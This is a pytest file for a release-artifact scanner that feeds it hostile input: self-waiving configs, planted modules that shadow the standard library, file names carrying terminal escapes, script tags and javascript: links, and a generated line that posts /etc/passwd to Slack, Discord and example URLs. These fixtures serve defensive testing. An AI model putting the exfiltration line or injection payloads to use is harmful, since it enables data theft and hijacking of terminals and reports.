"""Hostile input at the edges of the pipeline: what the artifact can do to the exam around it
(its configuration, its names in every report, the report's own output target, signals and
scratch space). Each case runs the real command, as a user would."""

from __future__ import annotations

import contextlib
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest

from builders import tar_bytes, write
from finalexam.analyze.secrets.validate import base62_encode

SRC = Path(__file__).resolve().parents[2] / "src"
BODY = "Q7vLx2Rk9TzP4mWn8YcB3dFh6JsA1e"
TOKEN = "ghp_" + BODY + base62_encode(zlib.crc32(BODY.encode()))  # a well-formed GitHub token
WAIVE_ALL = (
    'disable = ["secrets", "behavior"]\n'
    'allow_incomplete = ["corrupt", "limit", "plugin-failed", "database"]\n'
    'policy = "ci"\n\n'
    '[[waivers]]\nrule_id = "*"\nreason = "all good"\n'
)


def finalexam(
    *args: str, cwd: Path, env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "finalexam", *args],
        capture_output=True,
        text=True,
        cwd=cwd,
        env={**os.environ, "PYTHONPATH": str(SRC), **(env or {})},
        timeout=300,
        check=False,
    )


# -- the artifact never configures its own exam ---------------------------------------------


@pytest.fixture
def leaky(tmp_path: Path) -> Path:
    """An unpacked package that ships a token and a config turning every check off."""
    root = tmp_path / "vendor-drop"
    write(root / "app" / "settings.py", f"GITHUB_TOKEN = {TOKEN!r}\n".encode())
    write(root / "finalexam.toml", WAIVE_ALL.encode())
    write(root / "pyproject.toml", b'[tool.finalexam]\nfail_on = "critical"\ndisable=["x"\n')
    return root


def test_config_inside_the_scanned_directory_is_never_read(leaky: Path) -> None:
    out = leaky.parent / "r.json"
    result = finalexam("scan", ".", "-o", f"json={out}", cwd=leaky)
    assert result.returncode == 1, result.stderr  # the token fails the release
    assert f"not reading {leaky / 'finalexam.toml'}" in result.stderr
    document = json.loads(out.read_text())
    assert document["verdict"]["policy"] == "release" and document["suppressed"] == []
    assert "secrets" in {f["found_by"] for f in document["findings"]}
    # the same from a sub-directory of the target, and with the target named by path
    sub = finalexam("scan", "..", "-o", f"json={out}", cwd=leaky / "app")
    assert sub.returncode == 1, sub.stderr


def test_modules_in_the_working_directory_are_never_imported(leaky: Path) -> None:
    """``python -m`` puts the working directory first on the import path: run from inside an
    unpacked package, its pathlib.py or zipfile.py would be imported in place of the
    standard library's (Jython's jar carries a whole Lib/). They stay files to examine."""
    marker = leaky.parent / "imported"
    for module in ("pathlib", "zipfile", "tarfile", "json", "uuid", "tomllib"):
        planted = f"open({str(marker)!r}, 'a').write({module!r})\nraise SystemExit(9)\n"
        write(leaky / f"{module}.py", planted.encode())
    out = leaky.parent / "r.json"
    result = finalexam("scan", ".", "-o", f"json={out}", cwd=leaky)
    assert not marker.exists(), marker.read_text()
    assert result.returncode == 1, result.stderr  # the token still fails the release
    examined = {f["location"] for f in json.loads(out.read_text())["findings"]}
    assert examined  # the exam ran, with the planted files among what it read


def test_config_outside_the_target_or_named_explicitly_is_read(leaky: Path) -> None:
    outside = leaky.parent
    write(outside / "finalexam.toml", b'[[waivers]]\nrule_id = "github-*"\nreason = "test"\n')
    result = finalexam("scan", "vendor-drop", "-o", "json", cwd=outside)
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["suppressed"]
    named = finalexam(
        "scan", ".", "--config", "finalexam.toml", "--allow-incomplete", "database", cwd=leaky
    )
    assert named.returncode == 0, named.stderr  # the user chose that file


# -- names and values that try to reach a renderer or a terminal ---------------------------

RAW_CONTROLS = ("\x1b", "\x9b", "\u202e", "\u2066", "\x07")
NASTY_NAMES = (
    "[/x].js",  # rich markup: crashed the table
    "red\x1b[31m\x1b]0;owned\x07.js",  # terminal escapes (C0)
    "csi\x9b2J.js",  # a C1 control: CSI on many terminals
    "invoice\u202egnp.js",  # a right-to-left override: the name reads backwards
    "iso\u2066late.js",
    "<script>alert(1)</script>.js",
    "[click](javascript:alert(1)).md",
    "@everyone.js",
)


def test_names_never_reach_a_terminal_or_renderer_raw(tmp_path: Path) -> None:
    members = {name: f"TOKEN = {TOKEN!r}\n" for name in NASTY_NAMES}
    target = write(tmp_path / "release\x1b[2J\u202e.tar", tar_bytes(members))
    outputs = {fmt: tmp_path / f"r.{fmt}" for fmt in ("json", "sarif", "html", "markdown", "junit")}
    args = [f"-o{fmt}={path}" for fmt, path in outputs.items()]
    result = finalexam("scan", str(target), "-o", "table", *args, cwd=tmp_path)
    assert result.returncode == 1, result.stderr  # the token: failed, not an internal error
    assert "internal error" not in result.stderr and "Traceback" not in result.stderr
    table = result.stdout
    assert "[/x].js" in table and "release" in table
    texts = {"table": table, "stderr": result.stderr}
    texts |= {fmt: path.read_text(encoding="utf-8") for fmt, path in outputs.items()}
    for fmt, text in texts.items():
        for control in RAW_CONTROLS:
            assert control not in text, (fmt, repr(control))
    json.loads(texts["json"]) and json.loads(texts["sarif"])
    import xml.etree.ElementTree as ET
    from html.parser import HTMLParser

    ET.fromstring(texts["junit"])
    scripts: list[str] = []

    class Scripts(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            if tag == "script":
                scripts.append(tag)

    Scripts().feed(texts["html"])
    assert len(scripts) == 1  # the report's own, hash-pinned script only
    assert "<script>alert" not in texts["html"]
    markdown = texts["markdown"]
    assert "<script>" not in markdown
    prose = re.sub(r"`[^`]*`", "", markdown)  # code spans are never Markdown
    assert not re.search(r"(?<!\\)\]\(javascript:", prose)  # no link out of a file name
    assert "@everyone" not in prose  # no mention pings from a package's file names


# -- one redaction, everywhere --------------------------------------------------------------

SLACK_SECRET = "Xq9Zr7Lm2Np4Ks8Vt6Wb3Yc5"
CREDENTIALS = {
    "userinfo": ("https://deploy:hunter2-Pa55word@artifacts.example.com/repo", "hunter2-Pa55word"),
    "slack": (f"https://hooks.slack.com/services/T0AB12CD3/B0EF45GH6/{SLACK_SECRET}", SLACK_SECRET),
    "query": (
        "https://api.example.com/v1/items?access_token=Zk4tQ9pLx2Rm7vWn&page=2",
        "Zk4tQ9pLx2Rm7vWn",
    ),
    "discord": (
        "https://discord.com/api/webhooks/123456789012345678/aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF3hJ6kL9nP",
        "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF3hJ6kL9nP",
    ),
}


def _code_with_endpoints() -> str:
    lines = ["import requests", ""]
    lines += [
        f'requests.post("{url}", data=open("/etc/passwd").read())'
        for url, _ in CREDENTIALS.values()
    ]
    return "\n".join(lines) + "\n"


def test_credentials_in_urls_are_redacted_in_every_output(tmp_path: Path) -> None:
    target = write(
        tmp_path / "agent-1.0.tar", tar_bytes({"agent-1.0/agent/upload.py": _code_with_endpoints()})
    )
    formats = ("json", "sarif", "html", "markdown", "junit")
    outputs = {fmt: tmp_path / f"r.{fmt}" for fmt in formats}
    result = finalexam(
        "scan",
        str(target),
        "-o",
        "table",
        *[f"-o{f}={p}" for f, p in outputs.items()],
        cwd=tmp_path,
    )
    assert result.returncode in (0, 1), result.stderr
    texts = {"table": result.stdout, "stderr": result.stderr}
    texts |= {fmt: path.read_text(encoding="utf-8") for fmt, path in outputs.items()}
    document = json.loads(texts["json"])
    values = {i["value"] for i in document["indicators"]}
    assert "https://hooks.slack.com/services/T0AB12CD3/B0EF45GH6/***" in values
    assert "https://deploy:***@artifacts.example.com/repo" in values
    for fmt, text in texts.items():
        for name, (_, secret) in CREDENTIALS.items():
            assert secret not in text, (fmt, name)
    # and in a release diff that adds the file
    old = write(tmp_path / "agent-0.9.tar", tar_bytes({"agent-0.9/agent/__init__.py": "x = 1\n"}))
    diff_outputs = {fmt: tmp_path / f"d.{fmt}" for fmt in ("json", "markdown", "html")}
    diffed = finalexam(
        "diff", str(old), str(target), *[f"-o{f}={p}" for f, p in diff_outputs.items()],
        "-o", "table", cwd=tmp_path,
    )  # fmt: skip
    assert diffed.returncode in (0, 1, 3), diffed.stderr
    texts = {"table": diffed.stdout} | {f: p.read_text() for f, p in diff_outputs.items()}
    for fmt, text in texts.items():
        for name, (_, secret) in CREDENTIALS.items():
            assert secret not in text, ("diff", fmt, name)


# -- reports are byte-identical; outputs that are not regular files are never replaced -----


def test_two_runs_give_byte_identical_reports_without_timings(tmp_path: Path) -> None:
    target = write(tmp_path / "a.tar", tar_bytes({"a/app.py": "print('hi')\n"}))
    env = {"SOURCE_DATE_EPOCH": ""}
    first = finalexam("scan", str(target), "-o", "json", cwd=tmp_path, env=env)
    second = finalexam("scan", str(target), "-o", "json", cwd=tmp_path, env=env)
    assert first.returncode == 0, first.stderr
    assert first.stdout == second.stdout
    assert "timings" not in json.loads(first.stdout)
    timed = finalexam("scan", str(target), "-o", "json", "--timings", cwd=tmp_path, env=env)
    assert set(json.loads(timed.stdout)["timings"]) >= {"walk", "analyze"}


def test_output_to_dev_stdout_writes_through(tmp_path: Path) -> None:
    # /dev/stdout is a symbolic link to /proc/self/fd/1; a link of our own is the same thing
    # without risking the machine's /dev/stdout should the code regress
    stdout = tmp_path / "stdout"
    stdout.symlink_to("/proc/self/fd/1")
    target = write(tmp_path / "a.tar", tar_bytes({"a/app.py": "print('hi')\n"}))
    result = finalexam("scan", str(target), "-o", f"json={stdout}", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["artifact"]["name"] == "a.tar"
    assert stdout.is_symlink()


def test_output_to_a_fifo_writes_through(tmp_path: Path) -> None:
    import stat
    import threading

    target = write(tmp_path / "a.tar", tar_bytes({"a/app.py": "print('hi')\n"}))
    fifo = tmp_path / "report.fifo"
    os.mkfifo(fifo)
    received: list[bytes] = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()))
    reader.start()
    result = finalexam("scan", str(target), "-o", f"json={fifo}", cwd=tmp_path)
    reader.join(timeout=60)
    assert result.returncode == 0, result.stderr
    assert json.loads(received[0])["artifact"]["name"] == "a.tar"
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)


def test_output_to_a_device_node_writes_through(tmp_path: Path) -> None:
    import stat

    null = tmp_path / "null"
    try:
        os.mknod(null, stat.S_IFCHR | 0o666, os.makedev(1, 3))  # a /dev/null of our own
    except PermissionError:
        pytest.skip("creating a device node needs root")
    target = write(tmp_path / "a.tar", tar_bytes({"a/app.py": "print('hi')\n"}))
    result = finalexam("scan", str(target), "-o", f"json={null}", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert stat.S_ISCHR(os.lstat(null).st_mode)  # still the device, not a regular file


def test_output_through_a_symlink_or_onto_a_directory_is_refused(tmp_path: Path) -> None:
    target = write(tmp_path / "a.tar", tar_bytes({"a/app.py": "print('hi')\n"}))
    precious = write(tmp_path / "precious.txt", b"keep me\n")
    link = tmp_path / "report.json"
    link.symlink_to(precious)
    result = finalexam("scan", str(target), "-o", f"json={link}", cwd=tmp_path)
    assert result.returncode == 2
    assert "symbolic link" in result.stderr and "Traceback" not in result.stderr
    assert link.is_symlink() and precious.read_bytes() == b"keep me\n"
    folder = tmp_path / "out"
    folder.mkdir()
    result = finalexam("scan", str(target), "-o", f"json={folder}", cwd=tmp_path)
    assert result.returncode == 2 and folder.is_dir()


# -- signals and scratch space -------------------------------------------------------------

BIG = 40 * 1024 * 1024  # past the 32 MiB kept in memory: the member spills to scratch


def _spilling_tar(directory: Path) -> Path:
    """A tar whose first member is big enough to be spilled to a scratch file, then many
    small scripts (work for the analyzers and their worker processes)."""
    import io
    import tarfile

    path = directory / "big.tar"
    with tarfile.open(path, "w") as archive:
        line = b"x = 'filler line of a generated module'\n"
        info = tarfile.TarInfo("pkg/data/blob.py")
        info.size = BIG
        archive.addfile(info, io.BytesIO((line * (BIG // len(line) + 1))[:BIG]))
        for index in range(1500):
            raw = f"import os\nVALUE_{index} = os.environ.get('HOME')\n".encode() * 40
            info = tarfile.TarInfo(f"pkg/mod{index}.py")
            info.size = len(raw)
            archive.addfile(info, io.BytesIO(raw))
    return path


def _start(target: Path, scratch: Path, *extra: str) -> subprocess.Popen[bytes]:
    env = {**os.environ, "PYTHONPATH": str(SRC), "TMPDIR": str(scratch)}
    return subprocess.Popen(
        [sys.executable, "-m", "finalexam", "scan", str(target), "-o", "json", *extra],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        env=env,
    )


def _wait_for(condition: Callable[[], bool], seconds: float = 120.0) -> None:
    deadline = time.monotonic() + seconds
    while not condition():
        assert time.monotonic() < deadline, "the exam never got there"
        time.sleep(0.05)


def _scratch_dirs(scratch: Path) -> list[Path]:
    return [p for p in scratch.iterdir() if p.name.startswith("finalexam-")]


def _spilled(scratch: Path) -> bool:
    return any(len(list(d.iterdir())) > 1 for d in _scratch_dirs(scratch))  # a spill file


def _children(pid: int) -> set[int]:
    children: set[int] = set()
    for task in Path(f"/proc/{pid}/task").glob("*"):
        with contextlib.suppress(OSError):
            children |= {int(c) for c in (task / "children").read_text().split()}
    return children


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"


@pytest.fixture(scope="module")
def spilling_tar(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return _spilling_tar(tmp_path_factory.mktemp("big"))


@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGINT], ids=["SIGTERM", "SIGINT"])
def test_a_signal_removes_the_scratch_space(
    signum: signal.Signals, spilling_tar: Path, tmp_path: Path
) -> None:
    scratch = tmp_path / "tmp"
    scratch.mkdir()
    child = _start(spilling_tar, scratch)
    _wait_for(lambda: _spilled(scratch))
    child.send_signal(signum)
    _, stderr = child.communicate(timeout=60)
    assert child.returncode == 3
    assert "Traceback" not in stderr.decode() and "finalexam: " in stderr.decode()
    assert _scratch_dirs(scratch) == []


@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGKILL], ids=["SIGTERM", "SIGKILL"])
def test_worker_processes_die_with_the_main_process(
    signum: signal.Signals, spilling_tar: Path, tmp_path: Path
) -> None:
    scratch = tmp_path / "tmp"
    scratch.mkdir()
    child = _start(spilling_tar, scratch, "--jobs", "2")
    _wait_for(lambda: len(_children(child.pid)) >= 2)
    workers = _children(child.pid)
    child.send_signal(signum)
    child.communicate(timeout=60)
    _wait_for(lambda: not any(_alive(pid) for pid in workers), seconds=20)


def test_scratch_of_a_killed_run_is_reaped_by_the_next(spilling_tar: Path, tmp_path: Path) -> None:
    scratch = tmp_path / "tmp"
    scratch.mkdir()
    child = _start(spilling_tar, scratch)
    _wait_for(lambda: _spilled(scratch))
    child.kill()  # SIGKILL: nothing of the run can clean up
    child.communicate(timeout=60)
    (left,) = _scratch_dirs(scratch)
    assert str(child.pid) in left.name  # marked with the owner's pid
    # a run that is alive keeps its scratch: this test process pretends to own one
    live = scratch / f"finalexam-{os.getpid()}-live"
    live.mkdir()
    from finalexam.scratch import mark_owner

    mark_owner(live)
    small = write(tmp_path / "small.tar", tar_bytes({"a.py": "x = 1\n"}))
    result = finalexam("scan", str(small), cwd=tmp_path, env={"TMPDIR": str(scratch)})
    assert result.returncode == 0, result.stderr
    assert _scratch_dirs(scratch) == [live]


def _in_small_tmpfs(command: list[str], tmpfs: Path) -> subprocess.CompletedProcess[str]:
    """``command`` with TMPDIR on a 1 MiB tmpfs, in a mount namespace of its own (the mount
    goes away with it)."""
    if shutil.which("unshare") is None:
        pytest.skip("unshare (util-linux) is not installed")
    namespace = ["unshare", "--mount"] if os.geteuid() == 0 else ["unshare", "-rm"]
    script = 'mount -t tmpfs -o size=1m tmpfs "$0" && TMPDIR="$0" exec "$@"'
    result = subprocess.run(
        [*namespace, "sh", "-c", script, str(tmpfs), *command],
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": str(SRC)},
        timeout=300,
        check=False,
    )
    if "mount:" in result.stderr and "permission denied" in result.stderr.lower():
        pytest.skip("no tmpfs mount allowed here")
    return result


@pytest.mark.parametrize("wrapped", [True, False], ids=["member", "target"])
def test_a_full_scratch_space_is_an_issue_with_a_report(wrapped: bool, tmp_path: Path) -> None:
    big = write(tmp_path / "payload.bin", b"\x00\x01" * (BIG // 2))
    target = big
    if wrapped:
        import tarfile

        target = tmp_path / "release.tar"
        with tarfile.open(target, "w") as archive:
            archive.add(big, arcname="payload.bin")
    (tmp_path / "small-tmp").mkdir()
    out = tmp_path / "r.json"
    command = [sys.executable, "-m", "finalexam", "scan", str(target), "-o", f"json={out}"]
    result = _in_small_tmpfs(command, tmp_path / "small-tmp")
    assert result.returncode == 3, result.stderr
    assert "internal error" not in result.stderr and "Traceback" not in result.stderr
    document = json.loads(out.read_text())
    resource = [i for i in document["issues"] if i["kind"] == "resource"]
    assert resource and "scratch space full" in resource[0]["message"]
    assert document["verdict"]["status"] == "incomplete"
